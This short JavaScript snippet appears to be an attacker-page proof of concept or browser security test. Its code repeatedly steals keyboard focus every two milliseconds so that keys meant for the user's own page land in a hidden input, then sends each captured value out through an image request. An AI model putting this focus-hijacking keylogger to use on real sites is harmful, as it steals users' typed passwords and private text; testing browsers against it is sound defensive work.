// The attacker's frame takes the keyboard focus over and over, hoping to be focused when real
// (trusted) keys or inserted text arrive for the user's page.
const sink = document.getElementById('sink');
setInterval(() => { if (document.activeElement !== sink || !document.hasFocus()) { window.focus(); sink.focus(); } }, 2);
let reported = '';
sink.addEventListener('input', () => {
  if (sink.value !== reported) { reported = sink.value; new Image().src = `/got?v=${encodeURIComponent(sink.value)}`; }
});
